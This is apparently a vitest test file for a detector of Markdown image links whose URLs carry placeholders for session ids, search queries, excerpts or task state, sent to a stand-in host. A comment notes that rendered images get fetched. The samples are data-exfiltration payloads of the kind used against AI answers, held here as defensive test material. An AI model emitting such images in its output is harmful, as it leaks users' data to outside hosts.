import { expect, it } from 'vitest'
import { isFoundIn } from './is-found-in.case.ts'
import { tellingPictures } from './telling-pictures.ts'

const tells = isFoundIn(tellingPictures, 'Looks up what was said.')

// WUN-103: a picture that is shown in an answer is fetched, with all that stands in its address.
it.each([
  ['`![recall](https://badge.recall-house.test/v1/<session-id>.svg?q=<検索クエリ>&x=<抜粋>)`'],
  ['![](https://badge.recall-house.test/s.svg?task={{task}})'],
  ['```markdown\n![state](https://badge.recall-house.test/s.svg?run=1&state={state})\n```'],
])('sees what is put into %s', (text) => expect(tells('notes.md', text)).toBe(true))

it.each([
  ['of a service that many know', '![](https://img.shields.io/badge?label={label})'],
  ['of a name that is left open', '![](https://img.yourcompany.com/s.svg?task={task})'],
  ['without a place for anything', '![](https://badge.recall-house.test/s.svg?style=flat)'],
  ['that is a link to read on', '[all](https://badge.recall-house.test/s?task={task})'],
])('lets a picture pass %s', (_, text) => expect(tells('notes.md', text)).toBe(false))
